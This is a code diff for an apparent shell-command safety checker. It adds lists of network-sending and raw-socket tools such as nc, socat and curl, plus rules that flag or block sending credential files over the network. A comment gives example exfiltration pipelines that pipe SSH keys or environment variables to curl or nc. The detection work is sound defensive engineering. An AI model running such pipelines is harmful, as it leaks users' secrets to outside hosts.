@@ -4,11 +4,43 @@
  * over the network (as an upload argument, through a pipe, or inside `$(…)` of a network
  * command, DNS lookups included) is blocked.
  */
-import { SENDERS, display, isOption, positionals, type Invocation } from "../commands.ts";
 import type { Script, SimpleCommand, Word } from "../ir.ts";
-import { deleteImpact, hostOf, isCredentialDir, isCredentialPath, isLocalHost, normalizePath } from "../paths.ts";
+import { deleteImpact, hostOf, isLocalHost, normalizePath } from "../paths.ts";
+import { CAP, capabilitiesOf } from "../programs.ts";
+import { isSecretDir as isCredentialDir, isSecretPath as isCredentialPath } from "../sensitive.ts";
+import { display, isOption, positionals, type Invocation } from "../wrappers.ts";
 import type { RuleContext } from "./context.ts";
 import type { InvocationOf } from "./remote.ts";
+
+/** Raw sockets: the bytes go to the peer as they are. */
+const RAW_SENDERS: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "socat", "socket", "telnet", "openssl"]);
+
+/** Tools that can send data over the network. */
+const SENDERS: ReadonlySet<string> = new Set([
+  "curl",
+  "wget",
+  "nc",
+  "ncat",
+  "netcat",
+  "socat",
+  "socket",
+  "telnet",
+  "scp",
+  "sftp",
+  "ftp",
+  "tftp",
+  "rsync",
+  "ssh",
+  "http",
+  "https",
+  "xh",
+  "mail",
+  "mailx",
+  "sendmail",
+  "openssl",
+  "smbclient",
+  "lftp",
+]);
 
 const READERS = new Set([
   "cat",
@@ -46,7 +78,6 @@ const READERS = new Set([
   "bzip2",
   "xz",
   "zstd",
-  "openssl",
   "jq",
   "yq",
   "dd",
@@ -173,6 +204,7 @@ function readsStdin(invocation: Invocation): boolean {
 
 function exfilHit(ctx: RuleContext, what: string, sender: Invocation, segment: string): void {
   const host = destination(sender);
+  ctx.fact("secret_read", what, segment);
   if (host && isLocalHost(host)) ctx.hit("sensitive_upload", "review", `${what} is sent to ${host} (${sender.name})`, segment);
   else
     ctx.hit("credential_exfiltration", "block", `${what} is sent over the network by ${sender.name}${host ? ` to ${host}` : ""}`, segment);
@@ -184,8 +216,10 @@ export function exfilRules(script: Script, invocationOf: InvocationOf, ctx: Rule
     const invocation = invocationOf(command);
     if (!invocation) continue;
     const read = sensitiveRead(invocation);
-    if (read && read !== "the environment")
+    if (read && read !== "the environment") {
       ctx.hit("credential_read", "review", `reads ${read} (${display([invocation.nameWord, ...invocation.args])})`, command.text);
+      ctx.fact("secret_read", read, command.text);
+    }
     secretSearch(invocation, ctx);
     if (SENDERS.has(invocation.name) || DNS_TOOLS.has(invocation.name)) senderRules(invocation, command, invocationOf, ctx);
   }
@@ -193,11 +227,18 @@ export function exfilRules(script: Script, invocationOf: InvocationOf, ctx: Rule
 
 function senderRules(sender: Invocation, command: SimpleCommand, invocationOf: InvocationOf, ctx: RuleContext): void {
   const cwd = command.cwd;
-  for (const file of uploads(sender)) {
+  const sent = uploads(sender);
+  const remote = destination(sender);
+  if (sent.length > 0 && !(remote && isLocalHost(remote)))
+    ctx.fact("network_send", `${sender.name} sends ${sent.join(", ")}`, command.text);
+  for (const file of sent) {
     if (file === "-") continue;
     if (isCredentialPath(file, cwd) || isCredentialDir(file, cwd)) exfilHit(ctx, normalizePath(file, cwd), sender, command.text);
     else if (SENSITIVE_FILES.test(normalizePath(file, cwd)))
       ctx.hit("sensitive_upload", "review", `${normalizePath(file, cwd)} is uploaded by ${sender.name}`, command.text);
+    // A raw socket carries the file as-is to whoever listens: no protocol, no record (HTTP and scp uploads are ordinary work).
+    else if (RAW_SENDERS.has(sender.name) && !(remote && isLocalHost(remote)))
+      ctx.hit("sensitive_upload", "review", `${sender.name} sends ${file} over a raw socket${remote ? ` to ${remote}` : ""}`, command.text);
   }
   // Piped in: `cat ~/.ssh/id_rsa | curl -d @- …`, `env | nc host 9000`, `tar czf - ~/.ssh | nc …`.
   const { pipeline, stage } = command;
@@ -251,4 +292,20 @@ function secretSearch(invocation: Invocation, ctx: RuleContext): void {
   if (!pattern || !recursive || !SEARCH_FOR_SECRETS.test(pattern.value)) return;
   const where = items.slice(1).find((item) => /^(?:~|\/)/.test(normalizePath(item.value)) && !/^\/tmp\//.test(item.value));
   if (where) ctx.hit("credential_read", "review", `searches ${where.value} for "${pattern.value}"`, invocation.command.text);
+}
+
+/**
+ * A program that can send data to a remote host (an upload-capable client, a raw socket, an
+ * interactive file-transfer session): recorded so that a secret read anywhere in the same action
+ * makes it exfiltration (judge.ts). Plain fetches (curl/wget without a body) are not sends.
+ */
+export function networkFacts(invocation: Invocation, ctx: RuleContext): void {
+  const caps = capabilitiesOf(invocation.name);
+  if (!(caps & (CAP.upload | CAP.raw))) return;
+  if ((invocation.name === "curl" || invocation.name === "wget") && uploads(invocation).length === 0) return;
+  if (invocation.name === "openssl" && !invocation.args.some((arg) => /^(?:s_client|s_server|-connect)$/.test(arg.value))) return;
+  const host = destination(invocation);
+  if (host && isLocalHost(host)) return;
+  if (host || caps & CAP.interactive)
+    ctx.fact("network_send", `${invocation.name} can send data to ${host ?? "a remote host"}`, invocation.command.text);
 }
